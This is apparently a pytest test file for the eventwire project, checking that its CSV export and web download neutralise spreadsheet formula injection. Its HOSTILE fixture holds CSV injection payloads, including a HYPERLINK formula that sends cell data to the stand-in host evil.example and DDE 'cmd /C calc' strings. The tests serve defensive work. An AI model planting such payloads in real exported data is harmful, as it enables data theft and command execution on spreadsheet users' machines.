"""Every CSV eventwire writes neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest

from eventwire.export import csv as csv_export
from eventwire.model import Actor, Document
from eventwire.store import open_store
from tests.hostile.conftest import run
from tests.store.factory import make_doc

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "source": "+cmd|' /C calc'!A0",
    "url": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path": "-2+3+cmd|' /C calc'!A0",
    "actor": "\t=1+1",
    "target": "\r=1+1",
}


def _hostile_doc() -> Document:
    doc = make_doc()
    meta = dataclasses.replace(doc.meta, title=HOSTILE["title"], source=HOSTILE["source"],
                               url=HOSTILE["url"], path=HOSTILE["path"])
    [event] = doc.events
    event = dataclasses.replace(event, actor=Actor(HOSTILE["actor"], None, 0, 13),
                                target=Actor(HOSTILE["target"], None, 0, 13),
                                attribution=dataclasses.replace(event.attribution,
                                                                source=HOSTILE["source"]))
    return dataclasses.replace(doc, meta=meta, events=(event,))


def _assert_inert(rows: list[dict[str, str]]) -> None:
    assert rows
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(csv_export.FORMULA_START) or _is_number(value), (
                column, value)
    [row] = rows
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["source"] == "'" + HOSTILE["source"]
    assert row["url"] == "'" + HOSTILE["url"]
    assert row["actor"] == "'" + HOSTILE["actor"]
    assert row["target"] == "'\n=1+1"  # a lone CR would break the row: written as LF


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


@pytest.fixture
def db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'ew.db'}"
    store = open_store(url)
    doc = _hostile_doc()
    place = dataclasses.replace(doc.places[0], lat=-12.5, lon=-3.25)
    store.save([dataclasses.replace(doc, places=(place,))])
    store.close()
    return url


def test_export_csv_neutralises_formulas(db: str, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    result = run("export", "--db", db, "--format", "csv", "-o", str(out))
    assert result.code == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as fp:
        rows = list(csv.DictReader(fp))
    _assert_inert(rows)
    assert rows[0]["lat"] == "-12.5" and rows[0]["lon"] == "-3.25"  # numbers stay numbers


def test_export_csv_to_stdout_neutralises_formulas(db: str) -> None:
    result = run("export", "--db", db, "--format", "csv")
    assert result.code == 0, result.stderr
    _assert_inert(list(csv.DictReader(io.StringIO(result.stdout, newline=""))))


def test_web_download_is_neutralised_once(db: str) -> None:
    from eventwire.web import downloads

    store = open_store(db)
    try:
        rows = list(store.iter_events())
    finally:
        store.close()
    _assert_inert(list(csv.DictReader(io.StringIO(downloads.events_csv(rows), newline=""))))


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'=1", "'=1"), ("plain", "plain"), ("", ""),
])
def test_neutralise(value: str, written: str) -> None:
    assert csv_export.neutralise(value) == written

